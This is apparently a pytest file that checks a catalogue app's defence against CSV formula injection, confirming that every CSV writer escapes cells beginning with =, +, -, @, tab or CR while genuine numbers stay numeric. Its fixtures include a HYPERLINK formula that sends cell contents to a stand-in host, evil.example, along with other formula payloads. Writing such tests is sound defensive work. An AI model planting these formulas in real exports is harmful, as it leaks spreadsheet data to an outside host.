"""CSV formula injection: every CSV the app writes goes through `app.spreadsheet.writer`, which
prefixes a cell starting with =, +, -, @, tab or CR with an apostrophe — but not a genuine
number (-5000 stays numeric). The certificate export still round-trips through the importer."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from app import spreadsheet
from app.clock import today
from app.config import ROOT
from catalog.exporter import export_csv
from catalog.importer import import_csv_text
from catalog.models import Certificate, Product
from tests.factories import make_certificate, make_producer, make_product, make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
FORMULAS = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "=1", "-", "+"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(spreadsheet.FORMULA_STARTS) or spreadsheet.NUMBER.fullmatch(cell), cell


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_prefixed(text):
    assert spreadsheet.safe_cell(text) == "'" + text
    assert spreadsheet.unescape_cell("'" + text) == text


@pytest.mark.parametrize("value", [-5000, 5000, 0, -12.5, "-5000", "+84912345678", "-0.5", "1e5"])
def test_genuine_numbers_stay_numbers(value):
    assert spreadsheet.safe_cell(value) == value


@pytest.mark.parametrize("text", ["Nước mắm", "'quoted", "a=b", "", "'-5000"])
def test_other_text_is_left_alone(text):
    assert spreadsheet.safe_cell(text) == text
    assert spreadsheet.unescape_cell(text) == text


@given(st.text())
def test_any_text_comes_back_exactly_from_a_written_cell(text):
    assert spreadsheet.unescape_cell(str(spreadsheet.safe_cell(text))) == text


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = spreadsheet.writer(out, lineterminator="\n")
    writer.writerow(["name", "amount"])
    writer.writerows([[HYPERLINK, -5000], ["@cmd", 12]])
    assert rows_of(out.getvalue()) == [["name", "amount"], ["'" + HYPERLINK, "-5000"], ["'@cmd", "12"]]


def test_no_module_writes_csv_around_the_helper():
    offenders = []
    for path in ROOT.rglob("*.py"):
        if {".venv", "tests", "bench", "migrations"} & set(path.relative_to(ROOT).parts):
            continue
        if path == ROOT / "app" / "spreadsheet.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --- Each writer --------------------------------------------------------------------------

def test_certificate_export_round_trips_a_formula_name_through_the_importer(db_session):
    producer = make_producer(name="@HTX Công thức", tax_code="1800123456", province_code=92)
    evil = make_product(producer, certified=False, name=HYPERLINK)
    make_certificate(evil, stars=4, issued_on=date(2025, 3, 1), issuer="-UBND tỉnh Cần Thơ")
    exported = export_csv(db_session)
    cells = [cell for row in rows_of(exported) for cell in row]
    assert "'" + HYPERLINK in cells and "'@HTX Công thức" in cells and "'-UBND tỉnh Cần Thơ" in cells
    no_formula(rows_of(exported))
    before = [(c.id, c.issuer, c.product.name, c.product.producer.name) for c in
              db_session.scalars(select(Certificate).order_by(Certificate.id))]
    outcome = import_csv_text(db_session, exported)
    assert outcome.errors == [] and outcome.imported == 0
    assert outcome.producers_created == 0 and outcome.products_created == 0
    db_session.expire_all()
    after = [(c.id, c.issuer, c.product.name, c.product.producer.name) for c in
             db_session.scalars(select(Certificate).order_by(Certificate.id))]
    assert after == before
    assert db_session.scalar(select(Product.name).where(Product.id == evil.id)) == HYPERLINK
    assert export_csv(db_session) == exported


def test_audit_csv():
    from app.audit import entries_csv

    rows = rows_of(entries_csv([_entry(actor=HYPERLINK, after={"name": "=1+1"})]))
    assert rows[1][1] == "'" + HYPERLINK
    no_formula(rows)


def _entry(**values):
    from app.audit import AuditEntry

    return AuditEntry(at=None, actor_role="admin", client_hash="", action="update",
                      object_type="producers", object_id="1", before=None, **values)


def test_office_report_csv():
    from backoffice.office.reports import Report

    rows = rows_of(Report("x", ("name", "count", "delta"), [{"name": "@x", "count": 3, "delta": -2}]).csv())
    assert rows[1] == ["'@x", "3", "-2"]


def test_meta_feed_csv(client, db_session):
    make_product(name=HYPERLINK, price_vnd=120_000)
    rows = rows_of(client.get("/feeds/meta.csv").get_data(as_text=True))
    titles = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in titles
    no_formula(rows)


def test_expiring_certificates_csv(client, db_session):
    soon = make_product(certified=False, name="-Rượu ngô Bắc Hà")
    make_certificate(soon, issued_on=date(2024, 1, 1), valid_until=today() + timedelta(days=20))
    client.post("/login", data={"email": make_user("admin").email, "password": "correct horse"})
    rows = rows_of(client.get("/admin/certificates?format=csv").get_data(as_text=True))
    assert any(row[1] == "'-Rượu ngô Bắc Hà" for row in rows[1:])
    assert any(row[-1] == "20" for row in rows[1:])
    no_formula(rows)


def test_stamps_csv():
    from traceability.printing import labels, stamps_csv

    text = stamps_csv(labels("http://ocop.test", ["ABCD1234EFGH"]), lot_number="=1+1", product_slug="che")
    assert rows_of(text)[1] == ["ABCD1234EFGH", "http://ocop.test/t/ABCD1234EFGH", "'=1+1", "che"]


def test_counter_day_report_csv():
    from showrooms.reports import PRODUCT_COLUMNS, DayReport, report_csv

    product = dict(zip(PRODUCT_COLUMNS, ("x", HYPERLINK, 1, 5000, 0, 5000), strict=True))
    report = DayReport(location=None, day=date(2026, 11, 30), tickets=[], refunds=[], close=None,
                       by_method={"cash": 5000}, by_product=[product],
                       by_producer=[{"name": "+HTX", "quantity": 1, "sold_vnd": 5000, "refunded_vnd": 0,
                                     "owed_vnd": 5000}],
                       total_vnd=5000, refunded_vnd=0, cash_expected_vnd=-5000)
    rows = rows_of(report_csv(report))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and "'+HTX" in cells
    assert ["cash_expected_vnd", "-5000"] in rows  # a negative amount stays a number
    no_formula(rows)


def test_the_writers_listed_in_the_brief_all_use_the_helper():
    writers = ["catalog/exporter.py", "app/audit.py", "storefront/promotion/feeds.py",
               "backoffice/dashboards.py", "backoffice/office/reports.py", "traceability/printing.py",
               "showrooms/reports.py"]
    for name in writers:
        assert "spreadsheet.writer(" in Path(ROOT, name).read_text(encoding="utf-8"), name
